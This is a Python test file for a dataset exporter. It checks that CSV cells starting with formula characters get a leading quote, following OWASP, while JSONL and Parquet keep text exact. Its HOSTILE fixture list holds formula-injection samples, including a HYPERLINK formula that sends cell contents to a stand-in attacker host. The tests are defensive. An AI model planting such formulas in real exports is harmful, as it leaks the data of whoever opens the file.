"""CSV exports neutralise spreadsheet formulas (OWASP's rule: a leading `'` before =, +, -, @, tab, CR); JSONL
and Parquet keep the text exactly; the dataset card says so for CSV."""

import csv
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from annotate.exports import ExportOptions, export_dataset
from annotate.exports.writers import neutralise_formula, write_splits

from . import campaign

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "-1+2", "+SUM(A1:A9)", "@cmd", "\tx", "\rx"]
SAFE = ["plain answer", "1-2", "a=b", "", "'quoted already"]
SCHEMA = pa.schema([("response", pa.string()), ("score", pa.float64()), ("votes", pa.int64())])


def written(tmp_path, file_type: str) -> list[dict]:
    rows = [("train", {"response": text, "score": -1.5, "votes": -3}) for text in HOSTILE + SAFE]
    path = tmp_path / f"data.{file_type}"
    write_splits(rows, paths={"train": path}, file_type=file_type, schema=SCHEMA)
    if file_type == "csv":
        with path.open(newline="", encoding="utf-8") as handle:
            return list(csv.DictReader(handle))
    if file_type == "jsonl":
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    return pq.read_table(path).to_pylist()


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(tmp_path):
    got = [row["response"] for row in written(tmp_path, "csv")]
    assert got[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert got[len(HOSTILE) :] == SAFE
    assert got[0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' and got[1] == "'-1+2"


def test_numbers_stay_numbers_in_csv(tmp_path):
    row = written(tmp_path, "csv")[0]
    assert (row["score"], row["votes"]) == ("-1.5", "-3")


@pytest.mark.parametrize("file_type", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_the_text_exactly(tmp_path, file_type):
    assert [row["response"] for row in written(tmp_path, file_type)] == HOSTILE + SAFE


def test_the_rule_is_owasps():
    assert [neutralise_formula(p + "x") for p in "=+-@\t\r"] == ["'" + p + "x" for p in "=+-@\t\r"]
    assert neutralise_formula("x=1") == "x=1"


@pytest.mark.parametrize("file_type", ["csv", "jsonl"])
def test_the_card_says_so_for_csv_only(tmp_path, file_type):
    schema, pairs = campaign(3)
    options = ExportOptions(format="raw", file_type=file_type, test_fraction=0)
    export_dataset(pairs, schema=schema, kind="pairwise", options=options, directory=tmp_path, stem="d")
    card = (tmp_path / "README.md").read_text()
    assert ("start with an added `'`" in card and "OWASP" in card) is (file_type == "csv")
